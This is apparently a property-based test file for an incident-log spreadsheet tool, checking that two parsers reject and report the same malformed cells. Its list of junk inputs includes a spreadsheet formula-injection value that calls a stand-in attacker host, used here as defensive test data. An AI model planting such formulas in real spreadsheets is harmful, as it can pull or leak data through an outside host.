/**
 * The incident log's fast column reader (custom functions) and the row parser (menus, sidebar, documents)
 * leave out the same rows and report the same cells, whatever the rows hold.
 */
import fc from 'fast-check';
import { buildModel } from '../../../src/core/attainment/model';
import { columnsFromRows, columnsFromValues, type IncidentColumns } from '../../../src/core/attainment/columns';
import { tabDef } from '../../../src/core/schema/workbook';
import { parseWorkbook } from '../../../src/core/workbook/parseWorkbook';
import type { Problem } from '../../../src/core/workbook/problems';
import { at, baseTabs, sheet, TZ, valuesOf } from './fixture';

const T0 = at('2026-10-26');
const HOUR = 3_600_000;

/** Values a careless or hostile user might leave in a cell of any column. */
const junk = fc.constantFrom<unknown>(
  '', ' ', null, 'fixed', 'lots', 'maybe', -2, 0, 3.5, '2', true, false, 'Yes', 'no', 'Y', 'n/a', 'EMAIL', 'email ', 'NOPE',
  'Incident', 'request', 'HIGH', 'Medium ', 'Sometimes', 'Hardware', 'printer', '2026-11-03 09:00', '03/11/2026 10:00',
  '11/30/2026 14:05', '1000-01-01', '20226-09-01', '=IMPORTDATA("https://attacker.example/")', 'x'.repeat(300),
  new Date(Date.UTC(3000, 0, 1)), new Date(Date.UTC(1066, 9, 14)), new Date(NaN),
);

/** A cell for one column: mostly what the column expects, sometimes anything at all. */
const cellFor = (key: string): fc.Arbitrary<unknown> => {
  const col = tabDef('incidents').columns.find((c) => c.key === key)!;
  const good: fc.Arbitrary<unknown> =
    col.type === 'datetime' ? fc.integer({ min: -48, max: 24 * 30 }).map((h) => new Date(T0 + h * HOUR))
      : col.type === 'enum' ? fc.constantFrom(...(col.values ?? []))
        : col.type === 'number' ? fc.integer({ min: 0, max: 8 })
          : col.type === 'yesno' ? fc.constantFrom('Yes', 'No', true, false)
            : key === 'serviceId' ? fc.constantFrom('EMAIL', 'NET', 'LIBRARY')
              : fc.string({ minLength: 1, maxLength: 6 });
  return fc.oneof({ arbitrary: good, weight: 6 }, { arbitrary: fc.constant(''), weight: 2 }, { arbitrary: junk, weight: 2 });
};

const KEYS = tabDef('incidents').columns.map((c) => c.key);
const row = fc.record(Object.fromEntries(KEYS.map((k) => [k, cellFor(k)])) as Record<string, fc.Arbitrary<unknown>>);

const plain = (cols: IncidentColumns) => {
  const out: Record<string, unknown[]> = {};
  for (const [k, v] of Object.entries(cols)) if (typeof v === 'object' && v !== null && 'length' in v) out[k] = Array.from(v as ArrayLike<number>);
  out.ref = Array.from({ length: cols.length }, (_, i) => cols.ref(i));
  return out;
};
const cellsOf = (ps: readonly Problem[]) => ps.filter((p) => p.tab === 'Incidents' && p.row > 1 && p.severity === 'error' && !/ is not a .* on the .* tab\.$|already used on row/.test(p.message))
  .map((p) => `${p.row}|${p.column}|${p.message}`).sort();

describe('the incident log read fast and read row by row agree', () => {
  test('same rows left out, same cells reported, same values read (random rows)', () => {
    fc.assert(fc.property(fc.array(row, { maxLength: 25 }), (records) => {
      const tabs = baseTabs();
      tabs.incidents = records;
      const parsed = parseWorkbook(valuesOf(tabs), TZ);
      const model = buildModel(parsed.workbook);
      const skipped: Problem[] = [];
      const fast = columnsFromValues(sheet('incidents', records), model, [], skipped);
      expect(cellsOf(skipped)).toEqual(cellsOf(parsed.problems));
      expect(plain(fast)).toEqual(plain(columnsFromRows(parsed.workbook.incidents, model)));
    }), { numRuns: 300, seed: 9 });
  });

  test('each bad value named in the issue leaves its row out and is reported, never misread', () => {
    const good = { ref: 'OK', serviceId: 'EMAIL', type: 'Incident', priority: 'High', opened: new Date(T0 + 10 * HOUR), resolved: new Date(T0 + 12 * HOUR) };
    const bad: Array<[string, Record<string, unknown>, string]> = [
      ['unreadable Opened', { opened: 'yesterday' }, 'Opened'],
      ['Opened in year 3000', { opened: new Date(Date.UTC(3000, 0, 1)) }, 'Opened'],
      ['unknown Type', { type: 'Fault' }, 'Type'],
      ['unknown Priority', { priority: 'Urgent' }, 'Priority'],
      ['Resolved before Opened', { resolved: new Date(T0) }, 'Resolved'],
      ['Resolved = "fixed"', { resolved: 'fixed' }, 'Resolved'],
      ['On hold = "lots"', { onHoldHours: 'lots' }, 'On hold (h)'],
      ['On hold negative', { onHoldHours: -3 }, 'On hold (h)'],
      ['Service down = "maybe"', { serviceDown: 'maybe' }, 'Service down'],
    ];
    const tabs = baseTabs();
    tabs.incidents = [good, ...bad.map(([, change], k) => ({ ...good, ref: `B${k}`, ...change }))];
    const parsed = parseWorkbook(valuesOf(tabs), TZ);
    const model = buildModel(parsed.workbook);
    const skipped: Problem[] = [];
    const fast = columnsFromValues(sheet('incidents', tabs.incidents), model, [], skipped);
    expect(fast.length).toBe(1);
    expect(parsed.workbook.incidents.map((i) => i.ref)).toEqual(['OK']);
    bad.forEach(([, , column], k) => {
      expect(skipped).toContainEqual(expect.objectContaining({ row: k + 3, column, message: expect.stringMatching(/left out of the figures/) }));
    });
  });
});
